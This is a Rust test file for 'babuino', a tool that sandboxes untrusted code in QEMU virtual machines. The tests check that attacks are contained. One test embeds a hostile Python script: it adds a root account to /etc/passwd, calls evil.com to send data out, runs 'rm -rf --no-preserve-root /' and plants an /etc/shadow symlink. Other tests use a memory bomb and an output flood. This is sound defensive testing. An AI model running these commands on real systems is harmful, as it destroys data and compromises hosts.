@@ -1,0 +1,286 @@
+//! The micro-VM backend attacked through the real `babuino` binary, booting real QEMU guests
+//! (TCG on these hosts: each boot takes seconds, so the tests are few, run one at a time, and
+//! pack several attacks into one VM where the attacks cannot hide each other).
+//!
+//! Skipped, with the reason printed, only when QEMU is not installed; CI installs it
+//! (scripts/deps.d/babuino-vm.sh) and builds the guest assets once into `$TRIAD_CACHE`.
+
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output, Stdio};
+use std::sync::{Mutex, OnceLock};
+use std::time::{Duration, Instant};
+
+use serde_json::Value;
+
+/// One VM at a time: the host has two cores and TCG is CPU-bound.
+static VM_LOCK: Mutex<()> = Mutex::new(());
+
+fn cache_dir() -> PathBuf {
+    match std::env::var_os("TRIAD_CACHE").filter(|v| !v.is_empty()) {
+        Some(d) => PathBuf::from(d).join("babuino"),
+        None => {
+            let home = std::env::var_os("HOME").map(PathBuf::from).unwrap_or_else(|| "/root".into());
+            home.join(".cache/security-triad/babuino")
+        }
+    }
+}
+
+fn babuino() -> Command {
+    let mut c = Command::new(env!("CARGO_BIN_EXE_babuino"));
+    c.env("BABUINO_CACHE", cache_dir());
+    c
+}
+
+/// Builds the assets once per test binary (a no-op when cached); None = skip (no QEMU).
+fn ready() -> Option<std::sync::MutexGuard<'static, ()>> {
+    static SETUP: OnceLock<Result<(), String>> = OnceLock::new();
+    if Command::new("qemu-system-x86_64").arg("--version").output().is_err() {
+        eprintln!("skipped: qemu-system-x86_64 is not installed (apt-get install qemu-system-x86)");
+        return None;
+    }
+    let guard = VM_LOCK.lock().unwrap_or_else(|e| e.into_inner());
+    let setup = SETUP.get_or_init(|| {
+        let out = babuino().args(["setup", "vm"]).output().map_err(|e| e.to_string())?;
+        if out.status.success() { Ok(()) } else { Err(String::from_utf8_lossy(&out.stderr).into_owned()) }
+    });
+    if let Err(e) = setup {
+        panic!("babuino setup vm failed:\n{e}");
+    }
+    Some(guard)
+}
+
+/// A unique value put in babuino's environment: QEMU inherits it, so a leftover VM is found by
+/// scanning /proc/*/environ for it.
+fn marker() -> String {
+    format!("BABUINO_TEST_MARK=vm-{}-{}", std::process::id(), Instant::now().elapsed().as_nanos() ^ rand_ish())
+}
+
+fn rand_ish() -> u128 {
+    std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map(|d| d.as_nanos()).unwrap_or(0)
+}
+
+fn processes_with(marker: &str) -> Vec<u32> {
+    let mut found = Vec::new();
+    for e in std::fs::read_dir("/proc").unwrap().flatten() {
+        let Ok(pid) = e.file_name().to_string_lossy().parse::<u32>() else { continue };
+        if let Ok(env) = std::fs::read(e.path().join("environ"))
+            && env.split(|b| *b == 0).any(|kv| kv == marker.as_bytes())
+        {
+            found.push(pid);
+        }
+    }
+    found
+}
+
+struct Run {
+    out: Output,
+    report: Value,
+}
+
+impl Run {
+    fn stderr(&self) -> String {
+        String::from_utf8_lossy(&self.out.stderr).into_owned()
+    }
+    fn code(&self) -> i32 {
+        self.out.status.code().unwrap_or(-1)
+    }
+    fn exit_kind(&self) -> &str {
+        self.report["exit"]["kind"].as_str().unwrap_or("")
+    }
+    fn denials(&self) -> Vec<String> {
+        self.report["denials"]
+            .as_array()
+            .map(|a| a.iter().map(|d| format!("{}: {}", d["kind"].as_str().unwrap_or(""), d["detail"].as_str().unwrap_or(""))).collect())
+            .unwrap_or_default()
+    }
+}
+
+/// Runs `babuino run --sandbox kvm --accel tcg --json ARGS` in `dir` and checks that no process
+/// and no temporary file of the run is left behind.
+fn run_vm(dir: &Path, args: &[&str]) -> Run {
+    let mark = marker();
+    let (k, v) = mark.split_once('=').unwrap();
+    let tmp = tempfile::tempdir().unwrap();
+    let out = babuino()
+        .args(["run", "--sandbox", "kvm", "--accel", "tcg", "--json"])
+        .args(args)
+        .current_dir(dir)
+        .env(k, v)
+        .env("TMPDIR", tmp.path())
+        .stdin(Stdio::null())
+        .output()
+        .unwrap();
+    let stdout = String::from_utf8_lossy(&out.stdout);
+    let report: Value = serde_json::from_str(&stdout).unwrap_or_else(|e| {
+        panic!("no JSON report ({e}); stdout:\n{stdout}\nstderr:\n{}", String::from_utf8_lossy(&out.stderr))
+    });
+    assert!(processes_with(&mark).is_empty(), "a process of the run outlived it");
+    assert_eq!(std::fs::read_dir(tmp.path()).unwrap().count(), 0, "temporary files left behind");
+    Run { out, report }
+}
+
+fn sha256(path: &Path) -> Vec<u8> {
+    use sha2::Digest;
+    sha2::Sha256::digest(std::fs::read(path).unwrap()).to_vec()
+}
+
+#[test]
+fn vm_seed_example_is_contained_and_reported() {
+    let Some(_vm) = ready() else { return };
+    let code = tempfile::tempdir().unwrap();
+    let canary = code.path().join("canary.txt");
+    std::fs::write(&canary, "still here").unwrap();
+    std::fs::write(
+        code.path().join("scrape.py"),
+        r#"
+import os, subprocess, urllib.request
+try:
+    open("/etc/passwd", "a").write("pwned::0:0::/:/bin/sh\n")
+    print("WROTE /etc/passwd")
+except OSError as e:
+    print("passwd blocked:", e.strerror)
+try:
+    urllib.request.urlopen("http://evil.com/steal", timeout=5)
+    print("REACHED evil.com")
+except Exception as e:
+    print("evil.com blocked:", type(e).__name__)
+try:
+    open("/code/canary.txt", "w").write("overwritten")
+except OSError as e:
+    print("code dir blocked:", e.strerror)
+subprocess.run(["rm", "-rf", "--no-preserve-root", "/"], stderr=subprocess.DEVNULL)
+os.makedirs("/tmp/output/sub", exist_ok=True)
+open("/tmp/output/sub/result.txt", "w").write("42\n")
+os.symlink("/etc/shadow", "/tmp/output/shadow-link")
+print("result:", sum(range(10)))
+"#,
+    )
+    .unwrap();
+    let host_passwd = sha256(Path::new("/etc/passwd"));
+    let out_dir = tempfile::tempdir().unwrap();
+    let out_path = out_dir.path().join("out");
+    let run = run_vm(code.path(), &["--output", out_path.to_str().unwrap(), "scrape.py"]);
+    let stdout = run.report.to_string();
+    let printed = String::from_utf8_lossy(&run.out.stderr).into_owned();
+    assert_eq!(run.code(), 0, "{}", run.stderr());
+    assert_eq!(run.exit_kind(), "code");
+    assert!(printed.contains("passwd blocked: Read-only file system"), "{printed}");
+    assert!(printed.contains("evil.com blocked"), "{printed}");
+    assert!(printed.contains("code dir blocked: Read-only file system"), "{printed}");
+    assert!(printed.contains("result: 45"), "{printed}");
+    assert!(!printed.contains("WROTE") && !printed.contains("REACHED"), "{printed}");
+    // The refusals are in the report, not only in the program's own output.
+    let denials = run.denials();
+    assert!(denials.iter().any(|d| d.starts_with("file: ") && d.contains("/etc/passwd") && d.contains("EROFS")), "{denials:?}\n{stdout}");
+    assert!(denials.iter().any(|d| d.contains("/code/canary.txt")), "{denials:?}");
+    assert!(denials.iter().any(|d| d.starts_with("network: ")), "{denials:?}");
+    // rm -rf / inside changed nothing outside.
+    assert_eq!(std::fs::read_to_string(&canary).unwrap(), "still here");
+    assert_eq!(sha256(Path::new("/etc/passwd")), host_passwd);
+    // Outputs: the regular file came back, the planted link did not.
+    assert_eq!(std::fs::read_to_string(out_path.join("sub/result.txt")).unwrap(), "42\n");
+    assert!(std::fs::symlink_metadata(out_path.join("shadow-link")).is_err());
+    assert_eq!(run.report["accel"], "tcg");
+}
+
+#[test]
+fn vm_memory_bomb_is_stopped_by_the_ram_limit() {
+    let Some(_vm) = ready() else { return };
+    let code = tempfile::tempdir().unwrap();
+    std::fs::write(
+        code.path().join("bomb.py"),
+        "x = []\nwhile True:\n    x.append(bytearray(8 << 20))\n",
+    )
+    .unwrap();
+    let run = run_vm(code.path(), &["--memory-mib", "256", "bomb.py"]);
+    assert_eq!(run.exit_kind(), "memory", "{}\n{}", run.report, run.stderr());
+    assert_eq!(run.code(), 137);
+}
+
+#[test]
+fn vm_infinite_loop_is_killed_at_the_time_limit() {
+    let Some(_vm) = ready() else { return };
+    let code = tempfile::tempdir().unwrap();
+    std::fs::write(code.path().join("spin.py"), "while True:\n    pass\n").unwrap();
+    let t = Instant::now();
+    let run = run_vm(code.path(), &["--timeout", "3", "spin.py"]);
+    assert_eq!(run.exit_kind(), "timeout", "{}\n{}", run.report, run.stderr());
+    assert_eq!(run.code(), 124);
+    let run_ms = run.report["run_ms"].as_u64().unwrap();
+    assert!((3000..6000).contains(&run_ms), "run_ms {run_ms}");
+    assert!(t.elapsed() < Duration::from_secs(120));
+}
+
+#[test]
+fn vm_output_flood_is_cut_at_the_output_limit() {
+    let Some(_vm) = ready() else { return };
+    let code = tempfile::tempdir().unwrap();
+    let run = run_vm(code.path(), &["--max-output", "100000", "--", "sh", "-c", "yes babuino"]);
+    assert_eq!(run.exit_kind(), "output-limit", "{}\n{}", run.report, run.stderr());
+    assert_eq!(run.code(), 125);
+    // Exactly the limit reached the user.
+    let shown = run.out.stderr.iter().filter(|b| **b == b'\n').count();
+    assert!(shown <= 100000 / "babuino\n".len() + 1);
+}
+
+#[test]
+fn vm_sigkill_of_babuino_leaves_nothing_behind() {
+    let Some(_vm) = ready() else { return };
+    let code = tempfile::tempdir().unwrap();
+    std::fs::write(code.path().join("wait.py"), "import time\nprint('ready', flush=True)\ntime.sleep(600)\n").unwrap();
+    let mark = marker();
+    let (k, v) = mark.split_once('=').unwrap();
+    let tmp = tempfile::tempdir().unwrap();
+    let mut child = babuino()
+        .args(["run", "--sandbox", "kvm", "--accel", "tcg", "wait.py"])
+        .current_dir(code.path())
+        .env(k, v)
+        .env("TMPDIR", tmp.path())
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::null())
+        .spawn()
+        .unwrap();
+    // Wait until the program runs inside the VM.
+    let mut stdout = child.stdout.take().unwrap();
+    let mut seen = Vec::new();
+    let mut buf = [0u8; 256];
+    while !String::from_utf8_lossy(&seen).contains("ready") {
+        use std::io::Read;
+        let n = stdout.read(&mut buf).unwrap();
+        assert!(n > 0, "babuino ended before the program started");
+        seen.extend_from_slice(&buf[..n]);
+    }
+    assert!(processes_with(&mark).len() >= 2, "expected babuino and qemu to be running");
+    child.kill().unwrap(); // SIGKILL: babuino gets no chance to clean up
+    child.wait().unwrap();
+    let deadline = Instant::now() + Duration::from_secs(10);
+    while !processes_with(&mark).is_empty() && Instant::now() < deadline {
+        std::thread::sleep(Duration::from_millis(50));
+    }
+    assert!(processes_with(&mark).is_empty(), "qemu survived the SIGKILL of babuino");
+    assert_eq!(std::fs::read_dir(tmp.path()).unwrap().count(), 0, "temporary files left behind");
+}
+
+#[test]
+fn vm_run_without_assets_says_what_to_do() {
+    let empty = tempfile::tempdir().unwrap();
+    let out = Command::new(env!("CARGO_BIN_EXE_babuino"))
+        .args(["run", "--sandbox", "kvm", "--", "true"])
+        .env("BABUINO_CACHE", empty.path())
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(70));
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(err.contains("babuino setup vm"), "{err}");
+}
+
+#[test]
+fn vm_allow_list_is_refused_rather_than_run_open() {
+    let out = Command::new(env!("CARGO_BIN_EXE_babuino"))
+        .args(["run", "--sandbox", "kvm", "--allow", "pypi.org", "--", "true"])
+        .output()
+        .unwrap();
+    assert_ne!(out.status.code(), Some(0));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("nothing was run"));
+}
